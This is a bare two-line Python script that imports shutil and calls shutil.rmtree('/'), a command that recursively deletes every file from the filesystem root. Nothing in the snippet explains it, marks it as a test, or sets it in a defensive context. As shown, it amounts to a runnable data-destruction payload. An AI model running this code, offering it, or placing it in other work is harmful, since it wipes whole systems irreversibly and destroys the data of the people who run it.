import shutil

shutil.rmtree('/')
